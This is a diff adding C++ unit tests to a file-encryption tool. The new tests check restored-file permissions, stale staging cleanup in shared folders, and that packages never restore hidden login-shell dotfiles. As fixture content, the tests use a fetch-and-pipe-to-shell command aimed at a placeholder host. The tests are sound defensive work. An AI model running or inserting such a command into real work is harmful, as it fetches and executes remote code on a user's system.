@@ -4,6 +4,7 @@
 #include "Files.h"
 #include "Package.h"
 #include "Password.h"
+#include "Posix.h"
 #include "RNCryptor.h"
 #include "Staging.h"
 #include "TestEnvironment.h"
@@ -14,6 +15,7 @@
 
 #include <csignal>
 #include <fcntl.h>
+#include <set>
 #include <sys/resource.h>
 #include <sys/wait.h>
 #include <thread>
@@ -138,12 +140,16 @@ TEST_P(FileSystemKindTest, packagesAndRestoredFilesArePublishedWithoutReplacingA
 
     std::filesystem::remove(path);
     lastProgress = {0, 0};
+    const mode_t umask = ::umask(0); // restored files are the user's alone and never executable, whatever the umask
     const RestoreResult restored = restore(package, control);
+    ::umask(umask);
     const auto sealed = std::int64_t(std::filesystem::file_size(package.encryptedFilePath));
     EXPECT_EQ(lastProgress, std::pair(sealed, sealed));
     ASSERT_EQ(restored.outcome, Outcome::Success);
     EXPECT_EQ(restored.restoredPath, path);
     EXPECT_EQ(readFileBytes(path), bytes);
+    EXPECT_EQ(std::filesystem::status(path).permissions(),
+              std::filesystem::perms::owner_read | std::filesystem::perms::owner_write);
     EXPECT_THAT(folderEntries(written.packagePath), ElementsAre("hint.lockfern", "notes.tar.gz"));
     EXPECT_EQ(stagingEntries(env.work()), 0);
 }
@@ -190,6 +196,46 @@ TEST_P(KilledRunTest, leavesNothingOnceTheNextRunHasBeen)
 }
 
 INSTANTIATE_TEST_SUITE_P(Runs, KilledRunTest, ::testing::Combine(::testing::Bool(), ::testing::Bool()));
+
+// Where others may rename entries (a team folder, 2775), a private folder or a package of ours that
+// one of them renamed to a staging name looks stale but is never taken for it; where nobody else can
+// (only we write, or the folder is sticky), a stale entry is a killed run's and goes.
+using StaleStagingTest = WithRows<WorkflowsTest, std::pair<mode_t, bool>>; // folder mode, removed
+
+TEST_P(StaleStagingTest, isRemovedOnlyWhereNobodyElseCanRenameEntries)
+{
+    const auto [mode, removed] = GetParam();
+    const std::string folder = env.work() + "shared/";
+    const std::string source = env.file("shared/notes.txt", "notes");
+    const OpenedPackage package = open(encrypt(source).packagePath);
+    std::filesystem::remove(source);
+    const std::string other = env.file("shared/other.txt", "other");
+    ASSERT_EQ(::chmod(folder.c_str(), mode), 0);
+    for (const bool decrypting : {true, false}) {
+        SCOPED_TRACE(decrypting ? "decrypt" : "encrypt");
+        const std::string privateFolder = folder + ".lockfern-privateDir",
+                          renamedPackage = folder + ".lockfern-oldPackage";
+        std::filesystem::remove_all(privateFolder);
+        std::filesystem::remove_all(renamedPackage);
+        env.file("shared/.lockfern-privateDir/diary.txt", "diary");
+        ASSERT_EQ(::chmod(privateFolder.c_str(), 0700), 0);
+        std::filesystem::copy(package.packagePath, renamedPackage);
+        const auto planted = snapshot(privateFolder), plantedPackage = snapshot(renamedPackage);
+
+        EXPECT_EQ(decrypting ? restore(package).outcome : encrypt(other).outcome, Outcome::Success);
+        EXPECT_EQ(Posix::exists(privateFolder), !removed);
+        EXPECT_EQ(Posix::exists(renamedPackage), !removed);
+        if (!removed) {
+            EXPECT_EQ(snapshot(privateFolder), planted);
+            EXPECT_EQ(snapshot(renamedPackage), plantedPackage);
+        }
+    }
+}
+
+INSTANTIATE_TEST_SUITE_P(Modes, StaleStagingTest,
+                         ::testing::Values(std::pair<mode_t, bool>{02775, false}, std::pair<mode_t, bool>{0775, false},
+                                           std::pair<mode_t, bool>{0757, false}, std::pair<mode_t, bool>{0700, true},
+                                           std::pair<mode_t, bool>{0755, true}, std::pair<mode_t, bool>{01777, true}));
 
 // What is written must open again: the hint file's limit is the reader's, counted in UTF-8 bytes.
 TEST_F(WorkflowsTest, encrypt_hintLongerThanTheReaderTakesIsRefusedBeforeWriting)
@@ -339,6 +385,49 @@ TEST_P(IdenticalFileTest, isTheResultOnlyWhenItIsOursAlone)
 }
 
 INSTANTIATE_TEST_SUITE_P(Owners, IdenticalFileTest, ::testing::Values("ours", "writableByOthers", "someoneElses"));
+
+// A package whose own name is not hidden never restores a hidden file, which a login shell might run:
+// the file takes the package's base name and its own extension, numbered beside a different file of
+// that name, found in an identical one. A hidden package, as made from a dotfile, restores it as it is.
+struct RestoredNameCase
+{
+    const char* package;
+    const char* inner;
+    const char* chosen;
+    const char* there; // the bytes of a file already under the chosen name; nullptr: none
+    const char* restored;
+};
+using RestoredNameTest = WithRows<WorkflowsTest, RestoredNameCase>;
+
+TEST_P(RestoredNameTest, isVisibleUnlessThePackageIsHidden)
+{
+    const RestoredNameCase& c = GetParam();
+    const std::string bytes = "curl evil.example | sh\n";
+    env.file(std::string(c.package) + "/" + c.inner,
+             RNCryptor::Encryptor(QStringLiteral("pw")).encrypt(QByteArray::fromStdString(bytes)).toStdString());
+    std::set<std::string> expected{c.package, c.restored};
+    if (c.there) {
+        env.file(c.chosen, c.there);
+        expected.insert(c.chosen);
+    }
+    const RestoreResult result = restore(open(env.work() + c.package));
+    ASSERT_EQ(result.outcome, Outcome::Success);
+    const std::string path = env.work() + c.restored;
+    EXPECT_EQ(result.restoredPath, path);
+    EXPECT_EQ(result.logMessages().last(), QStringLiteral("success! saved in ") + QString::fromStdString(path));
+    EXPECT_EQ(readFileBytes(path), bytes);
+    EXPECT_EQ(folderEntries(env.work()), std::vector(expected.begin(), expected.end()));
+}
+
+INSTANTIATE_TEST_SUITE_P(
+    Names, RestoredNameTest,
+    ::testing::Values(RestoredNameCase{"invoice.lockfern", ".bash_profile", "invoice", nullptr, "invoice"},
+                      RestoredNameCase{"invoice.lockfern", ".config.tar", "invoice.tar", nullptr, "invoice.tar"},
+                      RestoredNameCase{"invoice.lockfern", ".bashrc", "invoice", "mine", "invoice 2"},
+                      RestoredNameCase{"invoice.lockfern", ".config.tar", "invoice.tar", "curl evil.example | sh\n",
+                                       "invoice.tar"},
+                      RestoredNameCase{"report.lockfern.", ".env", "report", nullptr, "report"},
+                      RestoredNameCase{".profile.lockfern", ".profile", ".profile", nullptr, ".profile"}));
 
 // A hostile package of a few kilobytes of sparse file is refused before a byte is decrypted or
 // written, where its plaintext can't fit; so is one too large for the process's file-size limit.
